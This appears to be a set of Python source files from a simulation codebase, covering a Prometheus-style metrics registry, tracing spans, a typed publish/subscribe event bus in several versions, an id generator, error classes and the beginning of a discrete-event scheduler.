    """Shared machinery: a named metric with zero or more label dimensions."""

    kind = "untyped"

    def __init__(self, name: str, help: str = "",
                 labelnames: Sequence[str] = ()) -> None:
        if not _NAME_RE.match(name):
            raise ValueError(f"invalid metric name {name!r}")
        for label in labelnames:
            if not _LABEL_RE.match(label):
                raise ValueError(f"invalid label name {label!r}")
        if len(set(labelnames)) != len(labelnames):
            raise ValueError("duplicate label names")
        self.name = name
        self.help = help
        self.labelnames: Tuple[str, ...] = tuple(labelnames)
        self._children: Dict[Tuple[str, ...], object] = {}

    def _make_child(self):  # pragma: no cover - overridden
        raise NotImplementedError

    def _child(self, labels: Mapping[str, object]):
        if set(labels) != set(self.labelnames):
            raise ValueError(
                f"{self.name}: expected labels {self.labelnames}, "
                f"got {tuple(sorted(labels))}")
        key = tuple(str(labels[name]) for name in self.labelnames)
        child = self._children.get(key)
        if child is None:
            child = self._children[key] = self._make_child()
        return child

    def labels(self, **labels: object):
        """The child for one label combination (created on first use)."""
        return self._child(labels)

    @property
    def samples(self) -> Dict[Tuple[str, ...], object]:
        """label-values tuple -> child, for inspection in tests."""
        return dict(self._children)

    def cardinality(self) -> int:
        """Number of distinct label combinations seen so far."""
        return len(self._children)


class Counter(_MetricFamily):
    """A monotonically increasing count (events, frames, alerts)."""

    kind = "counter"

    def _make_child(self) -> _CounterChild:
        return _CounterChild()

    def inc(self, amount: float = 1.0, **labels: object) -> None:
        self._child(labels).inc(amount)

    def total(self) -> float:
        """Sum over every label combination."""
        return sum(child.value for child in self._children.values())


class Gauge(_MetricFamily):
    """A sampled value that can rise and fall (queue depth, history size)."""

    kind = "gauge"

    def _make_child(self) -> _GaugeChild:
        return _GaugeChild()

    def set(self, value: float, **labels: object) -> None:
        self._child(labels).set(value)

    def inc(self, amount: float = 1.0, **labels: object) -> None:
        self._child(labels).inc(amount)

    def dec(self, amount: float = 1.0, **labels: object) -> None:
        self._child(labels).dec(amount)

    def total(self) -> float:
        return sum(child.value for child in self._children.values())


class Histogram(_MetricFamily):
    """A distribution with cumulative buckets (durations, sizes)."""

    kind = "histogram"

    def __init__(self, name: str, help: str = "",
                 labelnames: Sequence[str] = (),
                 buckets: Sequence[float] = DEFAULT_BUCKETS) -> None:
        super().__init__(name, help, labelnames)
        bounds = tuple(sorted(float(b) for b in buckets))
        if not bounds:
            raise ValueError("histogram needs at least one bucket")
        if bounds[-1] != float("inf"):
            bounds = bounds + (float("inf"),)
        self.buckets = bounds

    def _make_child(self) -> _HistogramChild:
        return _HistogramChild(self.buckets)

    def observe(self, value: float, **labels: object) -> None:
        self._child(labels).observe(value)

    def total(self) -> float:
        """Total number of observations across label combinations."""
        return float(sum(child.count for child in self._children.values()))


# ---------------------------------------------------------------------------
# The registry + exporter
# ---------------------------------------------------------------------------


class MetricsRegistry:
    """Holds metric families and renders them in the Prometheus text format.

    Re-registering a name returns the existing family (so independently
    constructed components share counters), but a kind or label-schema
    mismatch is an error -- it would silently split the series.
    """

    def __init__(self) -> None:
        self._families: Dict[str, _MetricFamily] = {}

    # -- registration ----------------------------------------------------------

    def _register(self, cls, name: str, help: str,
                  labelnames: Sequence[str], **kwargs) -> _MetricFamily:
        existing = self._families.get(name)
        if existing is not None:
            if not isinstance(existing, cls):
                raise ValueError(
                    f"metric {name!r} already registered as {existing.kind}")
            if existing.labelnames != tuple(labelnames):
                raise ValueError(
                    f"metric {name!r} already registered with labels "
                    f"{existing.labelnames}")
            return existing
        family = cls(name, help, labelnames, **kwargs)
        self._families[name] = family
        return family

    def counter(self, name: str, help: str = "",
                labelnames: Sequence[str] = ()) -> Counter:
        return self._register(Counter, name, help, labelnames)

    def gauge(self, name: str, help: str = "",
              labelnames: Sequence[str] = ()) -> Gauge:
        return self._register(Gauge, name, help, labelnames)

    def histogram(self, name: str, help: str = "",
                  labelnames: Sequence[str] = (),
                  buckets: Sequence[float] = DEFAULT_BUCKETS) -> Histogram:
        return self._register(Histogram, name, help, labelnames,
                              buckets=buckets)

    # -- inspection ------------------------------------------------------------

    def get(self, name: str) -> _MetricFamily:
        family = self._families.get(name)
        if family is None:
            raise KeyError(f"no metric named {name!r}")
        return family

    def __contains__(self, name: str) -> bool:
        return name in self._families

    def families(self) -> List[_MetricFamily]:
        return list(self._families.values())

    def total(self, name: str) -> float:
        """Convenience: the family's total, or 0.0 if never registered."""
        family = self._families.get(name)
        return family.total() if family is not None else 0.0

    def snapshot(self) -> Dict[str, Dict[Tuple[str, ...], float]]:
        """Plain-dict view: name -> {label values -> value/count}."""
        out: Dict[str, Dict[Tuple[str, ...], float]] = {}
        for name, family in self._families.items():
            series: Dict[Tuple[str, ...], float] = {}
            for key, child in family.samples.items():
                if isinstance(child, _HistogramChild):
                    series[key] = float(child.count)
                else:
                    series[key] = child.value
            out[name] = series
        return out

    def reset(self) -> None:
        """Drop every family (registrations included)."""
        self._families.clear()

    # -- the exporter ----------------------------------------------------------

    def render(self) -> str:
        """The Prometheus text exposition format, deterministically ordered."""
        lines: List[str] = []
        for name in sorted(self._families):
            family = self._families[name]
            if family.help:
                lines.append(f"# HELP {name} {family.help}")
            lines.append(f"# TYPE {name} {family.kind}")
            for key in sorted(family.samples):
                child = family.samples[key]
                base = list(zip(family.labelnames, key))
                if isinstance(child, _HistogramChild):
                    for bound, cumulative in zip(
                            child.buckets, child.cumulative_counts()):
                        labels = _render_labels(
                            base + [("le", _fmt(bound))])
                        lines.append(f"{name}_bucket{labels} {cumulative}")
                    labels = _render_labels(base)
                    lines.append(f"{name}_sum{labels} {_fmt(child.sum)}")
                    lines.append(f"{name}_count{labels} {child.count}")
                else:
                    labels = _render_labels(base)
                    lines.append(f"{name}{labels} {_fmt(child.value)}")
        return "\n".join(lines) + ("\n" if lines else "")


# ---------------------------------------------------------------------------
# Tracing
# ---------------------------------------------------------------------------


@dataclass
class Span:
    """One timed operation, nested under whatever span was open above it.

    Durations come in two flavours: ``wall`` (real seconds the operation
    took to execute -- tool overhead) and ``sim`` (simulated seconds that
    elapsed on the :class:`SimClock` while it ran -- operational time).
    """

    name: str
    attributes: Dict[str, object] = field(default_factory=dict)
    sim_start: float = 0.0
    sim_end: float = 0.0
    wall_start: float = 0.0
    wall_end: float = 0.0
    children: List["Span"] = field(default_factory=list)
    parent: Optional["Span"] = field(default=None, repr=False)

    @property
    def sim_duration(self) -> float:
        return self.sim_end - self.sim_start

    @property
    def wall_duration(self) -> float:
        return self.wall_end - self.wall_start

    @property
    def depth(self) -> int:
        span, depth = self, 0
        while span.parent is not None:
            span, depth = span.parent, depth + 1
        return depth

    def walk(self) -> Iterator["Span"]:
        """This span and every descendant, depth-first."""
        yield self
        for child in self.children:
            yield from child.walk()


class Tracer:
    """Produces nested :class:`Span` objects timestamped from a SimClock."""

    def __init__(self, clock: Optional[SimClock] = None) -> None:
        self.clock = clock or default_clock()
        self.finished: List[Span] = []     # completion order
        self._stack: List[Span] = []

    @contextmanager
    def span(self, name: str, **attributes: object) -> Iterator[Span]:
        """Open a span; nests under the currently open span, if any."""
        parent = self._stack[-1] if self._stack else None
        span = Span(name=name, attributes=dict(attributes), parent=parent,
                    sim_start=self.clock.now,
                    wall_start=time.perf_counter())
        self._stack.append(span)
        try:
            yield span
        finally:
            span.sim_end = self.clock.now
            span.wall_end = time.perf_counter()
            self._stack.pop()
            if parent is not None:
                parent.children.append(span)
            self.finished.append(span)

    def roots(self) -> List[Span]:
        """Completed top-level spans, in completion order."""
        return [span for span in self.finished if span.parent is None]

    def find(self, name: str) -> List[Span]:
        """Completed spans with exactly this name."""
        return [span for span in self.finished if span.name == name]

    def active_span(self) -> Optional[Span]:
        return self._stack[-1] if self._stack else None


# ---------------------------------------------------------------------------
# Process-wide defaults
# ---------------------------------------------------------------------------

_default_registry: Optional[MetricsRegistry] = None
_enabled: bool = True


def default_registry() -> MetricsRegistry:
    """The process-wide registry every instrumented component shares."""
    global _default_registry
    if _default_registry is None:
        _default_registry = MetricsRegistry()
    return _default_registry


def reset_default_registry() -> None:
    """Forget the process-wide registry (test fixtures, CLI snapshots)."""
    global _default_registry
    _default_registry = None


def set_telemetry_enabled(enabled: bool) -> None:
    """Globally enable/disable default instrumentation.

    Components consult this once, at construction: a bus built while
    telemetry is disabled stays uninstrumented for its lifetime, which is
    what the E17 overhead benchmark compares against.
    """
    global _enabled
    _enabled = bool(enabled)


def telemetry_enabled() -> bool:
    return _enabled


def active_registry() -> Optional[MetricsRegistry]:
    """The default registry if telemetry is enabled, else None.

    Instrumented components call this when no explicit registry is
    injected; a ``None`` return means "emit nothing, cost nothing".
    """
    return default_registry() if _enabled else None

"""Typed event bus.

The GENIO reproduction is heavily instrumented: the PON plant emits frame
events, hosts emit syscall and file events, the orchestrator emits API
audit events. Security components (the Falco-like monitor, Tripwire-like
FIM, audit loggers) subscribe to these streams. A single lightweight bus
keeps the coupling loose and lets experiments tap any stream.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Iterator, List, Optional


@dataclass(frozen=True)
class Event:
    """A single immutable event on the bus.

    :param topic: dotted topic name, e.g. ``"host.syscall"`` or ``"pon.frame"``.
    :param source: identifier of the emitting component.
    :param timestamp: simulated time of emission.
    :param payload: arbitrary structured data describing the event.
    """

    topic: str
    source: str
    timestamp: float
    payload: Dict[str, Any] = field(default_factory=dict)

    def get(self, key: str, default: Any = None) -> Any:
        """Convenience accessor into the payload."""
        return self.payload.get(key, default)


Subscriber = Callable[[Event], None]


class EventBus:
    """Publish/subscribe bus with exact and prefix topic matching.

    Subscribing to ``"host"`` receives ``"host.syscall"``, ``"host.file"``
    and every other ``host.*`` topic; subscribing to ``""`` receives all
    events. Events are also retained in a bounded history so late-attaching
    analysers (and tests) can replay what happened.
    """

    def __init__(self, history_limit: int = 100_000) -> None:
        if history_limit < 0:
            raise ValueError("history_limit must be non-negative")
        self._subscribers: Dict[str, List[Subscriber]] = {}
        self._history: List[Event] = []
        self._history_limit = history_limit

    def subscribe(self, topic: str, subscriber: Subscriber) -> Callable[[], None]:
        """Register ``subscriber`` for ``topic`` (prefix match on dots).

        Returns an unsubscribe callable.
        """
        self._subscribers.setdefault(topic, []).append(subscriber)

        def unsubscribe() -> None:
            handlers = self._subscribers.get(topic, [])
            if subscriber in handlers:
                handlers.remove(subscriber)

        return unsubscribe

    def publish(self, event: Event) -> None:
        """Deliver ``event`` to every matching subscriber and record it."""
        if self._history_limit:
            self._history.append(event)
            if len(self._history) > self._history_limit:
                # Drop the oldest half in one slice to amortise the cost.
                del self._history[: self._history_limit // 2]
        for topic, handlers in list(self._subscribers.items()):
            if _topic_matches(topic, event.topic):
                for handler in list(handlers):
                    handler(event)

    def emit(self, topic: str, source: str, timestamp: float, **payload: Any) -> Event:
        """Build and publish an event in one call; returns the event."""
        event = Event(topic=topic, source=source, timestamp=timestamp, payload=payload)
        self.publish(event)
        return event

    def history(self, topic: Optional[str] = None) -> Iterator[Event]:
        """Iterate retained events, optionally filtered by topic prefix."""
        for event in self._history:
            if topic is None or _topic_matches(topic, event.topic):
                yield event

    def clear_history(self) -> None:
        """Forget retained events (subscribers stay registered)."""
        self._history.clear()


def _topic_matches(pattern: str, topic: str) -> bool:
    """True if ``pattern`` equals ``topic`` or is a dotted prefix of it."""
    if pattern == "" or pattern == topic:
        return True
    return topic.startswith(pattern + ".")

"""Typed event bus.

The GENIO reproduction is heavily instrumented: the PON plant emits frame
events, hosts emit syscall and file events, the orchestrator emits API
audit events. Security components (the Falco-like monitor, Tripwire-like
FIM, audit loggers) subscribe to these streams. A single lightweight bus
keeps the coupling loose and lets experiments tap any stream.

The bus is itself a telemetry source: when the process-wide metrics
registry is active (see :mod:`repro.common.telemetry`), every publish
feeds ``bus_events_total{topic}``, ``bus_deliveries_total{topic}`` (the
subscriber fan-out), the ``bus_delivery_depth`` histogram (re-entrant
publishes from inside handlers) and the ``bus_history_size`` gauge.

Delivery is driven by a *cached plan*: the first publish of a concrete
topic resolves which subscriptions match (exact + dotted-prefix) into a
flat list that every later publish of that topic reuses. Subscribing or
unsubscribing bumps a plan version, so stale plans are rebuilt lazily on
their next use — the hot path never re-walks the pattern table or copies
handler lists per event. Fleet-scale cycle loops publish through
:meth:`EventBus.publish_batch`, which amortises the history trim and the
metrics updates across a whole cycle's events.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import (
    Any, Callable, Dict, Iterator, List, Optional, Sequence, Tuple,
)


@dataclass(frozen=True)
class Event:
    """A single immutable event on the bus.

    :param topic: dotted topic name, e.g. ``"host.syscall"`` or ``"pon.frame"``.
    :param source: identifier of the emitting component.
    :param timestamp: simulated time of emission.
    :param payload: arbitrary structured data describing the event.
    """

    topic: str
    source: str
    timestamp: float
    payload: Dict[str, Any] = field(default_factory=dict)

    def get(self, key: str, default: Any = None) -> Any:
        """Convenience accessor into the payload."""
        return self.payload.get(key, default)


Subscriber = Callable[[Event], None]
Predicate = Callable[[Event], bool]

# Compact the pattern table once this many registrations are tombstones
# (and they outnumber the live ones) — amortised O(1) per unsubscribe.
_COMPACT_THRESHOLD = 16


@dataclass
class _Subscription:
    """One registration: a handler plus an optional delivery predicate.

    ``active`` is the unsubscribe tombstone: delivery plans skip inactive
    registrations when they are (re)built, so unsubscribing never scans a
    handler list — it just flips the flag and invalidates the plans.
    """

    handler: Subscriber
    predicate: Optional[Predicate] = None
    active: bool = True

    def wants(self, event: Event) -> bool:
        return self.predicate is None or self.predicate(event)


class EventBus:
    """Publish/subscribe bus with exact and prefix topic matching.

    Subscribing to ``"host"`` receives ``"host.syscall"``, ``"host.file"``
    and every other ``host.*`` topic; subscribing to ``""`` receives all
    events. Events are also retained in a bounded history so late-attaching
    analysers (and tests) can replay what happened.

    ``history_limit`` bounds retention: the oldest half is trimmed when
    the bound is reached. ``history_limit=0`` means *unlimited retention*
    (nothing is ever trimmed) — not to be confused with
    ``history(limit=0)``, which selects zero events from what is retained.
    """

    def __init__(self, history_limit: int = 100_000,
                 metrics: Optional[object] = None) -> None:
        if history_limit < 0:
            raise ValueError("history_limit must be non-negative")
        self._subscribers: Dict[str, List[_Subscription]] = {}
        self._history: List[Event] = []
        self._history_limit = history_limit
        self._publish_depth = 0
        # Delivery-plan cache: concrete topic -> (version, matching
        # subscriptions). Any subscribe/unsubscribe bumps the version;
        # stale plans are rebuilt lazily on their next publish.
        self._plan_version = 0
        self._plans: Dict[str, Tuple[int, List[_Subscription]]] = {}
        self._live_subscriptions = 0
        self._tombstones = 0
        if metrics is None:
            from repro.common import telemetry
            metrics = telemetry.active_registry()
        self._metrics = metrics
        if metrics is not None:
            self._events_counter = metrics.counter(
                "bus_events_total", "Events published, by topic.", ("topic",))
            self._deliveries_counter = metrics.counter(
                "bus_deliveries_total",
                "Subscriber deliveries (fan-out), by topic.", ("topic",))
            self._depth_histogram = metrics.histogram(
                "bus_delivery_depth",
                "Publish nesting depth (handlers publishing from handlers).",
                buckets=(1, 2, 3, 5, 8))
            self._history_gauge = metrics.gauge(
                "bus_history_size", "Events currently retained in history.")
            # Pre-resolved children keep the hot path to plain attribute
            # bumps — no label resolution per event.
            self._depth_child = self._depth_histogram.labels()
            self._history_child = self._history_gauge.labels()
            # topic -> (events child, deliveries child)
            self._topic_children: Dict[str, tuple] = {}

    def subscribe(self, topic: str, subscriber: Subscriber,
                  predicate: Optional[Predicate] = None) -> Callable[[], None]:
        """Register ``subscriber`` for ``topic`` (prefix match on dots).

        ``predicate`` optionally filters delivery further: the subscriber
        only sees events for which ``predicate(event)`` is true, so
        monitors no longer re-filter streams (or full history) by hand.

        Returns an unsubscribe callable. Each callable removes exactly the
        registration that created it — registering the same subscriber on
        two topics yields two independent registrations, and unsubscribing
        one leaves the other delivering. Keep every returned callable you
        intend to use. Unsubscribing is O(1): the registration is
        tombstoned (and compacted away later), never searched for.
        """
        subscription = _Subscription(handler=subscriber, predicate=predicate)
        self._subscribers.setdefault(topic, []).append(subscription)
        self._live_subscriptions += 1
        self._plan_version += 1

        def unsubscribe() -> None:
            if not subscription.active:
                return
            subscription.active = False
            self._live_subscriptions -= 1
            self._tombstones += 1
            self._plan_version += 1
            if (self._tombstones >= _COMPACT_THRESHOLD
                    and self._tombstones >= self._live_subscriptions):
                self._compact()

        return unsubscribe

    def _compact(self) -> None:
        """Drop tombstoned registrations from the pattern table."""
        for handlers in self._subscribers.values():
            handlers[:] = [s for s in handlers if s.active]
        self._tombstones = 0

    def _plan(self, topic: str) -> List[_Subscription]:
        """The cached, version-checked delivery plan for a concrete topic."""
        cached = self._plans.get(topic)
        if cached is not None and cached[0] == self._plan_version:
            return cached[1]
        plan = [subscription
                for pattern, handlers in self._subscribers.items()
                if _topic_matches(pattern, topic)
                for subscription in handlers if subscription.active]
        self._plans[topic] = (self._plan_version, plan)
        return plan

    def _remember(self, event: Event) -> None:
        if self._history_limit and len(self._history) >= self._history_limit:
            # Amortised trim: drop the oldest half (at least one) in one
            # slice *before* appending, so history never exceeds the
            # documented bound — not even transiently, not even for
            # handlers that read history mid-delivery. A limit of zero
            # means unlimited retention.
            del self._history[: max(1, self._history_limit // 2)]
        self._history.append(event)

    def publish(self, event: Event) -> None:
        """Deliver ``event`` to every matching subscriber and record it."""
        self._remember(event)
        delivered = 0
        self._publish_depth += 1
        try:
            for subscription in self._plan(event.topic):
                if subscription.predicate is None \
                        or subscription.predicate(event):
                    subscription.handler(event)
                    delivered += 1
        finally:
            self._publish_depth -= 1
        if self._metrics is not None:
            children = self._topic_children.get(event.topic)
            if children is None:
                children = (
                    self._events_counter.labels(topic=event.topic),
                    self._deliveries_counter.labels(topic=event.topic))
                self._topic_children[event.topic] = children
            children[0].inc()
            if delivered:
                children[1].inc(delivered)
            self._depth_child.observe(self._publish_depth + 1)
            self._history_child.set(len(self._history))

    def publish_batch(self, events: Sequence[Event]) -> int:
        """Publish a pre-ordered batch of events; returns total deliveries.

        Semantically equivalent to calling :meth:`publish` per event —
        same delivery plans, same predicates, same counter totals — but
        the per-event bookkeeping is amortised across the batch:

        * the history trim runs once for the whole batch (the bound still
          holds exactly, never exceeded even transiently), and the whole
          batch is appended to history *before* delivery starts, so a
          handler reading history mid-batch sees the full batch;
        * ``bus_events_total``/``bus_deliveries_total`` get one ``inc``
          per distinct topic instead of one per event, the history gauge
          is set once, and the depth histogram records one observation
          for the batch.

        Fleet drivers use this to flush a cycle's merged shard events in
        one call.
        """
        events = list(events)
        if not events:
            return 0
        limit = self._history_limit
        history = self._history
        if not limit:
            history.extend(events)
        elif len(events) >= limit:
            history.clear()
            history.extend(events[len(events) - limit:])
        else:
            overflow = len(history) + len(events) - limit
            if overflow > 0:
                del history[: max(overflow, max(1, limit // 2))]
            history.extend(events)
        delivered_total = 0
        per_topic: Dict[str, List[int]] = {}
        self._publish_depth += 1
        try:
            for event in events:
                delivered = 0
                for subscription in self._plan(event.topic):
                    if subscription.predicate is None \
                            or subscription.predicate(event):
                        subscription.handler(event)
                        delivered += 1
                counts = per_topic.get(event.topic)
                if counts is None:
                    per_topic[event.topic] = [1, delivered]
                else:
                    counts[0] += 1
                    counts[1] += delivered
                delivered_total += delivered
        finally:
            self._publish_depth -= 1
        if self._metrics is not None:
            for topic, (published, delivered) in per_topic.items():
                children = self._topic_children.get(topic)
                if children is None:
                    children = (
                        self._events_counter.labels(topic=topic),
                        self._deliveries_counter.labels(topic=topic))
                    self._topic_children[topic] = children
                children[0].inc(published)
                if delivered:
                    children[1].inc(delivered)
            self._depth_child.observe(self._publish_depth + 1)
            self._history_child.set(len(self._history))
        return delivered_total

    def emit(self, topic: str, source: str, timestamp: float, **payload: Any) -> Event:
        """Build and publish an event in one call; returns the event."""
        event = Event(topic=topic, source=source, timestamp=timestamp, payload=payload)
        self.publish(event)
        return event

    def history(self, topic: Optional[str] = None,
                since: Optional[float] = None,
                limit: Optional[int] = None) -> Iterator[Event]:
        """Iterate retained events, optionally filtered.

        :param topic: topic prefix filter (dot-boundary match).
        :param since: only events with ``timestamp >= since``.
        :param limit: at most the *newest* ``limit`` matching events,
            still yielded in chronological order. ``limit=0`` selects
            zero events (an empty iterator) — unlike the constructor's
            ``history_limit=0``, which retains *everything*.
        """
        if limit is not None and limit < 0:
            raise ValueError("limit must be non-negative")
        matching = [
            event for event in self._history
            if (topic is None or _topic_matches(topic, event.topic))
            and (since is None or event.timestamp >= since)
        ]
        if limit is not None:
            matching = matching[len(matching) - limit:] if limit else []
        return iter(matching)

    def clear_history(self) -> None:
        """Forget retained events (subscribers stay registered)."""
        self._history.clear()


def _topic_matches(pattern: str, topic: str) -> bool:
    """True if ``pattern`` equals ``topic`` or is a dotted prefix of it."""
    if pattern == "" or pattern == topic:
        return True
    return topic.startswith(pattern + ".")

"""Typed event bus.

The GENIO reproduction is heavily instrumented: the PON plant emits frame
events, hosts emit syscall and file events, the orchestrator emits API
audit events. Security components (the Falco-like monitor, Tripwire-like
FIM, audit loggers) subscribe to these streams. A single lightweight bus
keeps the coupling loose and lets experiments tap any stream.

The bus is itself a telemetry source: when the process-wide metrics
registry is active (see :mod:`repro.common.telemetry`), every publish
feeds ``bus_events_total{topic}``, ``bus_deliveries_total{topic}`` (the
subscriber fan-out), the ``bus_delivery_depth`` histogram (re-entrant
publishes from inside handlers) and the ``bus_history_size`` gauge.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Callable, Dict, Iterator, List, Optional


@dataclass(frozen=True)
class Event:
    """A single immutable event on the bus.

    :param topic: dotted topic name, e.g. ``"host.syscall"`` or ``"pon.frame"``.
    :param source: identifier of the emitting component.
    :param timestamp: simulated time of emission.
    :param payload: arbitrary structured data describing the event.
    """

    topic: str
    source: str
    timestamp: float
    payload: Dict[str, Any] = field(default_factory=dict)

    def get(self, key: str, default: Any = None) -> Any:
        """Convenience accessor into the payload."""
        return self.payload.get(key, default)


Subscriber = Callable[[Event], None]
Predicate = Callable[[Event], bool]


@dataclass
class _Subscription:
    """One registration: a handler plus an optional delivery predicate."""

    handler: Subscriber
    predicate: Optional[Predicate] = None

    def wants(self, event: Event) -> bool:
        return self.predicate is None or self.predicate(event)


class EventBus:
    """Publish/subscribe bus with exact and prefix topic matching.

    Subscribing to ``"host"`` receives ``"host.syscall"``, ``"host.file"``
    and every other ``host.*`` topic; subscribing to ``""`` receives all
    events. Events are also retained in a bounded history so late-attaching
    analysers (and tests) can replay what happened.
    """

    def __init__(self, history_limit: int = 100_000,
                 metrics: Optional[object] = None) -> None:
        if history_limit < 0:
            raise ValueError("history_limit must be non-negative")
        self._subscribers: Dict[str, List[_Subscription]] = {}
        self._history: List[Event] = []
        self._history_limit = history_limit
        self._publish_depth = 0
        if metrics is None:
            from repro.common import telemetry
            metrics = telemetry.active_registry()
        self._metrics = metrics
        if metrics is not None:
            self._events_counter = metrics.counter(
                "bus_events_total", "Events published, by topic.", ("topic",))
            self._deliveries_counter = metrics.counter(
                "bus_deliveries_total",
                "Subscriber deliveries (fan-out), by topic.", ("topic",))
            self._depth_histogram = metrics.histogram(
                "bus_delivery_depth",
                "Publish nesting depth (handlers publishing from handlers).",
                buckets=(1, 2, 3, 5, 8))
            self._history_gauge = metrics.gauge(
                "bus_history_size", "Events currently retained in history.")
            # Pre-resolved children keep the hot path to plain attribute
            # bumps — no label resolution per event.
            self._depth_child = self._depth_histogram.labels()
            self._history_child = self._history_gauge.labels()
            # topic -> (events child, deliveries child)
            self._topic_children: Dict[str, tuple] = {}

    def subscribe(self, topic: str, subscriber: Subscriber,
                  predicate: Optional[Predicate] = None) -> Callable[[], None]:
        """Register ``subscriber`` for ``topic`` (prefix match on dots).

        ``predicate`` optionally filters delivery further: the subscriber
        only sees events for which ``predicate(event)`` is true, so
        monitors no longer re-filter streams (or full history) by hand.

        Returns an unsubscribe callable. Each callable removes exactly the
        registration that created it — registering the same subscriber on
        two topics yields two independent registrations, and unsubscribing
        one leaves the other delivering. Keep every returned callable you
        intend to use.
        """
        subscription = _Subscription(handler=subscriber, predicate=predicate)
        self._subscribers.setdefault(topic, []).append(subscription)

        def unsubscribe() -> None:
            handlers = self._subscribers.get(topic, [])
            if subscription in handlers:
                handlers.remove(subscription)

        return unsubscribe

    def publish(self, event: Event) -> None:
        """Deliver ``event`` to every matching subscriber and record it."""
        if self._history_limit and len(self._history) >= self._history_limit:
            # Amortised trim: drop the oldest half (at least one) in one
            # slice *before* appending, so history never exceeds the
            # documented bound — not even transiently, not even for
            # handlers that read history mid-delivery. A limit of zero
            # means unlimited retention.
            del self._history[: max(1, self._history_limit // 2)]
        self._history.append(event)
        delivered = 0
        self._publish_depth += 1
        try:
            for topic, handlers in list(self._subscribers.items()):
                if _topic_matches(topic, event.topic):
                    for subscription in list(handlers):
                        if subscription.wants(event):
                            subscription.handler(event)
                            delivered += 1
        finally:
            self._publish_depth -= 1
        if self._metrics is not None:
            children = self._topic_children.get(event.topic)
            if children is None:
                children = (
                    self._events_counter.labels(topic=event.topic),
                    self._deliveries_counter.labels(topic=event.topic))
                self._topic_children[event.topic] = children
            children[0].inc()
            if delivered:
                children[1].inc(delivered)
            self._depth_child.observe(self._publish_depth + 1)
            self._history_child.set(len(self._history))

    def emit(self, topic: str, source: str, timestamp: float, **payload: Any) -> Event:
        """Build and publish an event in one call; returns the event."""
        event = Event(topic=topic, source=source, timestamp=timestamp, payload=payload)
        self.publish(event)
        return event

    def history(self, topic: Optional[str] = None,
                since: Optional[float] = None,
                limit: Optional[int] = None) -> Iterator[Event]:
        """Iterate retained events, optionally filtered.

        :param topic: topic prefix filter (dot-boundary match).
        :param since: only events with ``timestamp >= since``.
        :param limit: at most the *newest* ``limit`` matching events,
            still yielded in chronological order.
        """
        if limit is not None and limit < 0:
            raise ValueError("limit must be non-negative")
        matching = [
            event for event in self._history
            if (topic is None or _topic_matches(topic, event.topic))
            and (since is None or event.timestamp >= since)
        ]
        if limit is not None:
            matching = matching[len(matching) - limit:] if limit else []
        return iter(matching)

    def clear_history(self) -> None:
        """Forget retained events (subscribers stay registered)."""
        self._history.clear()


def _topic_matches(pattern: str, topic: str) -> bool:
    """True if ``pattern`` equals ``topic`` or is a dotted prefix of it."""
    if pattern == "" or pattern == topic:
        return True
    return topic.startswith(pattern + ".")

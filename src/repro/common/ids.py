"""Deterministic identifier generation.

Real deployments use UUIDs; the reproduction uses counter-based ids with a
type prefix (``onu-3``, ``pod-12``) so logs, test assertions and benchmark
output stay stable across runs.
"""

from __future__ import annotations

from collections import defaultdict
from typing import Dict


class IdGenerator:
    """Produces ``<prefix>-<n>`` identifiers, one counter per prefix."""

    def __init__(self) -> None:
        self._counters: Dict[str, int] = defaultdict(int)

    def next(self, prefix: str) -> str:
        """Return the next identifier for ``prefix`` (1-based)."""
        if not prefix:
            raise ValueError("prefix must be non-empty")
        self._counters[prefix] += 1
        return f"{prefix}-{self._counters[prefix]}"

    def peek(self, prefix: str) -> int:
        """Number of identifiers already issued for ``prefix``."""
        return self._counters[prefix]

    def reset(self) -> None:
        """Forget all counters (used by test fixtures)."""
        self._counters.clear()

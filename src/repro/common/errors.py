"""Exception hierarchy for the GENIO reproduction.

All library errors derive from :class:`ReproError` so callers can catch
everything the simulation raises with one handler, while still being able
to distinguish security-relevant failures (authentication, integrity,
authorization) from plain configuration or lookup problems.
"""


class ReproError(Exception):
    """Base class for every error raised by this library."""


class AuthenticationError(ReproError):
    """An identity could not be verified (bad certificate, key, or signature)."""


class IntegrityError(ReproError):
    """Data failed an integrity check (hash mismatch, tampered payload)."""


class AuthorizationError(ReproError):
    """An authenticated principal attempted an action it is not allowed."""


class ConfigurationError(ReproError):
    """A component was configured inconsistently or illegally."""


class NotFoundError(ReproError):
    """A referenced object does not exist."""


class CapacityError(ReproError):
    """A resource request exceeded available capacity."""


class IsolationError(ReproError):
    """An operation would violate a tenant-isolation boundary."""


class QuarantineError(ReproError):
    """An artifact was blocked because it was flagged as malicious."""

"""Discrete-event simulation engine.

The :class:`Scheduler` is the single place that moves simulated time
forward. Subsystems that used to own their cadence loops (the DBA grant
cycle, QoS policing, CVE-feed publication, key rotation, monitor
sampling) instead *register tasks* — periodic via :meth:`Scheduler.every`
or one-shot via :meth:`Scheduler.call_at` / :meth:`Scheduler.call_later`
— and the experiment driver batch-steps the world with
:meth:`Scheduler.run_until` / :meth:`Scheduler.run_for`.

Ordering is fully deterministic: timers due at the same instant are
broken first by a seeded tie token drawn from the scheduler's own RNG at
registration time, then by registration order. Two runs with the same
seed and the same registration sequence therefore fire events in a
byte-identical order.

The scheduler layers on the :class:`~repro.common.clock.SimClock` timer
wheel rather than replacing it, so legacy code that advances a clock
directly (tests, notebooks) still fires scheduler tasks on the way.
"""

from __future__ import annotations

import random
from typing import Callable, Dict, List, Optional, Tuple

from .clock import SimClock, default_clock


class ScheduledEvent:
    """Handle for a one-shot event; supports cancellation before firing."""

    __slots__ = ("when", "name", "_fn", "_fired", "_cancelled")

    def __init__(self, when: float, fn: Callable[[], None], name: str) -> None:
        self.when = when
        self.name = name
        self._fn = fn
        self._fired = False
        self._cancelled = False

    @property
    def fired(self) -> bool:
        return self._fired

    @property
    def cancelled(self) -> bool:
        return self._cancelled

    def cancel(self) -> None:
        self._cancelled = True


class PeriodicTask:
    """A recurring task registered via :meth:`Scheduler.every`.

    Fires every ``interval`` seconds starting at ``first_at`` until
    cancelled, until the optional ``until`` horizon would be passed, or
    until ``max_fires`` firings have happened.
    """

    __slots__ = ("name", "interval", "until", "max_fires", "fires",
                 "next_at", "_fn", "_cancelled", "_fire")

    def __init__(self, name: str, interval: float, fn: Callable[[], None],
                 first_at: float, until: Optional[float],
                 max_fires: Optional[int]) -> None:
        self.name = name
        self.interval = interval
        self.until = until
        self.max_fires = max_fires
        self.fires = 0
        self.next_at = first_at
        self._fn = fn
        self._cancelled = False
